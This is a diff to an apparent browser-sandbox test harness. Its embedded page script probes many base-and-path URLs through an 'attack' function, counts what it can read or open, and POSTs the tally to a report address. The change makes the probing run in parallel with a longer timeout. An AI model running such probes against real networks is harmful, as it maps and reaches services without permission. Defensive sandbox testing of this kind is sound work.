@@ -18,7 +18,7 @@ const CHROMIUM: &str = "/usr/bin/chromium";
 const PAGE: &str = r#"<!doctype html><meta charset="utf-8"><body><script>
 const found = { read: 0, opened: 0, tried: 0, what: [] };
 const note = (kind, n, of) => { found[kind] += n; if (n) found.what.push(of); };
-const soon = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 4000))]).catch(() => {});
+const soon = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 8000))]).catch(() => {});
 const read = async (url, init) => {
   found.tried += 1;
   const answer = await fetch(url, init);
@@ -65,7 +65,10 @@ const attack = async (url) => {
 };
 (async () => {
   await new Promise((done) => setTimeout(done, WAIT));
-  for (const base of BASES) for (const path of PATHS) await attack(base + path);
+  // Many at once: browsers let sockets to one machine wait for each other.
+  const all = BASES.flatMap((base) => PATHS.map((path) => base + path));
+  const some = async () => { for (let url; (url = all.pop()); ) await attack(url); };
+  await Promise.all(Array.from({ length: 16 }, some));
   found.what = found.what.slice(0, 20);
   await fetch(REPORT, { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
 })();
